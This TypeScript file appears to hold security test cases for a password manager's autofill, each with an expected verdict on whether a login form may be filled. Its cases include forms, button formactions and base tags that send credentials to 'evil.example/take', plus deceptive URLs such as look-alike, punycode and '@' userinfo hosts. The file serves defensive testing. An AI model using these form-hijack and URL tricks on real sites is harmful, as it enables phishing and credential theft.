import { loginForm, page } from "./web.ts";

/**
 * Places where a form looks right and must not be filled by itself. Each is tried on every path there
 * is (SEC-01): by itself, by a person's act in the popup, and by a message from the content script's
 * world, which a page that has taken over its renderer could send.
 */

export const real = "https://login.example.com";
export const inner = `${real}/inner`;
export const evil = "https://evil.example";

export const frameOf = (url: string, attributes = "") =>
  `<iframe src="${url}" width="600" height="300" ${attributes}></iframe>`;

export type Place = {
  readonly name: string;
  readonly pages: Readonly<
    Record<string, string | { headers: Record<string, string>; body: string }>
  >;
  readonly open: string;
  /** The origin of the frame whose form it is about; the top one's where it is absent. */
  readonly origin?: string;
  /** The start of that frame's URL. */
  readonly at?: string;
  readonly verdict: "offer" | "nothing";
  readonly reasons: readonly string[];
  /** What the person is asked to confirm; nothing where there is no way. */
  readonly confirm?: readonly string[];
  /** What filling after that confirmation yields. */
  readonly filled?: number;
};

export const places: readonly Place[] = [
  {
    name: "SEC-03a: a sandboxed frame",
    pages: {
      [`${real}/`]: page(frameOf(inner, 'sandbox="allow-scripts"')),
      [inner]: page(loginForm()),
    },
    open: `${real}/`,
    origin: "null",
    at: inner,
    verdict: "nothing",
    reasons: ["opaque_origin"],
  },
  {
    name: "SEC-03b: a sandboxed frame that may send forms",
    pages: {
      [`${real}/`]: page(frameOf(inner, 'sandbox="allow-scripts allow-forms"')),
      [inner]: page(loginForm()),
    },
    open: `${real}/`,
    origin: "null",
    at: inner,
    verdict: "nothing",
    reasons: ["opaque_origin"],
  },
  {
    name: "SEC-03c: a page that its own header puts into a sandbox",
    pages: { [`${real}/`]: sandboxed() },
    open: `${real}/`,
    verdict: "nothing",
    reasons: ["opaque_origin"],
  },
  {
    name: "SEC-03c: a frame that its own header puts into a sandbox",
    pages: { [`${real}/`]: page(frameOf(inner)), [inner]: sandboxed() },
    open: `${real}/`,
    origin: "null",
    at: inner,
    verdict: "nothing",
    reasons: ["opaque_origin"],
  },
  {
    name: "SEC-03d: a data: frame",
    pages: {
      [`${real}/`]: page(frameOf(`data:text/html,${encodeURIComponent(page(loginForm()))}`)),
    },
    open: `${real}/`,
    origin: "null",
    at: "data:",
    verdict: "nothing",
    reasons: ["opaque_origin"],
  },
  {
    name: "SEC-04: the real site in a frame of another",
    pages: { [`${evil}/`]: page(frameOf(inner)), [inner]: page(loginForm()) },
    open: `${evil}/`,
    origin: real,
    at: inner,
    verdict: "offer",
    reasons: ["cross_origin_frame", "top_not_linked"],
    confirm: [real, evil],
    filled: 2,
  },
  {
    name: "SEC-04: another site in a frame of the real one",
    pages: { [`${real}/`]: page(frameOf(`${evil}/`)), [`${evil}/`]: page(loginForm()) },
    open: `${real}/`,
    origin: evil,
    at: evil,
    verdict: "nothing",
    reasons: ["no_record"],
  },
  {
    name: "SEC-04: the real site in another in a third",
    pages: {
      "https://outer.example/": page(frameOf(`${real}/`)),
      [`${real}/`]: page(frameOf(`${evil}/`)),
      [`${evil}/`]: page(loginForm()),
    },
    open: "https://outer.example/",
    origin: evil,
    at: evil,
    verdict: "nothing",
    reasons: ["no_record"],
  },
  {
    name: "SEC-04: a frame of the real one's site that is not linked",
    pages: {
      [`${real}/`]: page(frameOf("https://ads.example.com/")),
      "https://ads.example.com/": page(loginForm()),
    },
    open: `${real}/`,
    origin: "https://ads.example.com",
    at: "https://ads.example.com",
    verdict: "nothing",
    reasons: ["no_record"],
  },
  {
    name: "SEC-05: the linked host without TLS",
    pages: { "http://login.example.com/": page(loginForm()) },
    open: "http://login.example.com/",
    verdict: "nothing",
    reasons: ["no_record", "downgrade"],
  },
  {
    name: "SEC-05: the real site in a frame of its own host without TLS",
    pages: {
      "http://login.example.com/": page(frameOf(inner)),
      [inner]: page(loginForm()),
    },
    open: "http://login.example.com/",
    origin: real,
    at: inner,
    verdict: "offer",
    reasons: ["cross_origin_frame", "top_not_linked"],
    confirm: [real, "http://login.example.com"],
    filled: 2,
  },
  ...(
    [
      ["a look-alike that begins with it", "https://login.example.com.evil.example/"],
      ["a look-alike that ends with it", "https://evillogin.example.com/"],
      ["its parent domain", "https://example.com/"],
      ["a host below it", "https://m.login.example.com/"],
    ] as const
  ).map(([what, url]) => elsewhere(`SEC-06: ${what}`, url)),
  elsewhere(
    "SEC-07: another host behind its name as user",
    "https://login.example.com@evil.example/",
  ),
  elsewhere(
    "SEC-07: another host behind its name and a colon",
    "https://login.example.com:@evil.example/",
  ),
  elsewhere(
    "SEC-07: another host before its name in the path",
    "https://evil.example/@login.example.com",
  ),
  elsewhere("SEC-08: a letter of another script", "https://xn--lgin-55d.example.com/"),
  elsewhere("SEC-10: another port", "https://login.example.com:8443/"),
  elsewhere("SEC-10: a dot at its end", "https://login.example.com./"),
  target("another origin as action", loginForm(`method="post" action="${evil}/take"`)),
  target(
    "another origin as the button's action",
    loginForm().replace("<button>", `<button formaction="${evil}/take">`),
  ),
  target(
    "another origin as base",
    `<base href="${evil}/">${loginForm('method="post" action="take"')}`,
  ),
  {
    name: "SEC-11: a form that puts the values into the address",
    pages: { [`${real}/`]: page(loginForm('method="get" action="/in"')) },
    open: `${real}/`,
    verdict: "offer",
    reasons: ["method_get"],
    confirm: [],
    filled: 2,
  },
  {
    name: "SEC-11: a form whose answer opens in another frame",
    pages: {
      [`${real}/`]: page(
        `${loginForm('method="post" action="/in" target="other"')}<iframe name="other"></iframe>`,
      ),
    },
    open: `${real}/`,
    verdict: "offer",
    reasons: ["form_target_other_frame"],
    confirm: [],
    filled: 2,
  },
  {
    name: "SEC-12: a page that is not below the linked path",
    pages: { "https://prefix.example.com/apple": page(loginForm()) },
    open: "https://prefix.example.com/apple",
    verdict: "nothing",
    reasons: ["no_record"],
  },
  {
    name: "SEC-12: a record that asks first",
    pages: { "https://ask.example.com/": page(loginForm()) },
    open: "https://ask.example.com/",
    verdict: "offer",
    reasons: ["ask_first"],
    confirm: [],
    filled: 2,
  },
  {
    name: "SEC-15: a blob: frame",
    pages: {
      [`${real}/`]: page(
        `<script>
          const blob = new Blob([${JSON.stringify(page(loginForm()))}], { type: "text/html" });
          document.write('<iframe width="600" height="300" src="' + URL.createObjectURL(blob) + '"></iframe>');
        </script>`,
      ),
    },
    open: `${real}/`,
    at: "blob:",
    origin: real,
    verdict: "nothing",
    reasons: ["special_document"],
  },
  {
    name: "SEC-15: an about:srcdoc frame",
    pages: {
      [`${real}/`]: page(
        `<iframe width="600" height="300" srcdoc='${loginForm().replaceAll("'", "&#39;")}'></iframe>`,
      ),
    },
    open: `${real}/`,
    at: "about:srcdoc",
    origin: real,
    verdict: "nothing",
    reasons: ["special_document"],
  },
  {
    name: "SEC-15: an about:blank frame",
    pages: {
      [`${real}/`]: page(
        `<iframe width="600" height="300" id="blank"></iframe><script>
          document.querySelector("#blank").contentDocument.body.innerHTML = ${JSON.stringify(loginForm())};
        </script>`,
      ),
    },
    open: `${real}/`,
    at: "about:blank",
    origin: real,
    verdict: "nothing",
    reasons: ["special_document"],
  },
];

function sandboxed() {
  return {
    headers: { "content-security-policy": "sandbox allow-scripts" },
    body: page(loginForm()),
  };
}

function elsewhere(name: string, open: string): Place {
  const { origin, pathname } = new URL(open);
  const pages = { [origin + pathname]: page(loginForm()) };
  return { name, pages, open, verdict: "nothing", reasons: ["no_record"] };
}

function target(what: string, body: string): Place {
  return {
    name: `SEC-11: a form with ${what}`,
    pages: { [`${real}/`]: page(body) },
    open: `${real}/`,
    verdict: "offer",
    reasons: ["form_target_unlinked"],
    confirm: [evil],
    filled: 2,
  };
}
